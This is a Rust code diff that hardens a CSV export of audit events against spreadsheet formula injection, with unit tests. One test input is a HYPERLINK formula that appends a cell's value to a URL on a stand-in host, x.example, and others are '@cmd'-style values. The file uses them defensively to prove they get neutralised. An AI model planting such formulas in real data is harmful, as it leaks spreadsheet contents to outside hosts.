@@ -168,10 +168,59 @@ pub fn write_text(w: &FieldWrite) -> String {
     }
 }
 
+/// One CSV cell: a text a spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`,
+/// a tab or a carriage return — git user names, approval comments and override reasons are
+/// typed by people) gets a leading `'`, so that it shows as text; then RFC 4180 quoting.
 fn csv_cell(text: &str) -> String {
+    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    };
     if text.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
-        text.to_owned()
+        text
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn event(actor: &str, note: &str) -> AuditEvent {
+        AuditEvent {
+            at: "2026-03-01T10:00:00Z".into(),
+            kind: AuditKind::Override,
+            actor: actor.into(),
+            change: Some("sha256:ab".into()),
+            summary: "Pushed without the approvals: 0 of 1".into(),
+            note: Some(note.into()),
+            sent: Vec::new(),
+        }
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised_and_still_quoted() {
+        let csv = to_csv(&[event(
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"open\") <a@b.c>",
+            "+1, @SUM(A1:A9)",
+        )]);
+        let row = csv.lines().nth(1).unwrap_or_default();
+        assert_eq!(
+            row,
+            "2026-03-01T10:00:00Z,override,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\") <a@b.c>\",sha256:ab,Pushed without the approvals: 0 of 1,\"'+1, @SUM(A1:A9)\","
+        );
+        for (raw, cell) in [
+            ("-2+3", "'-2+3"),
+            ("@cmd", "'@cmd"),
+            ("\tx", "'\tx"),
+            ("\rx", "\"'\rx\""),
+            ("Jane Doe <j@x.example>", "Jane Doe <j@x.example>"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_cell(raw), cell, "{raw:?}");
+        }
     }
 }
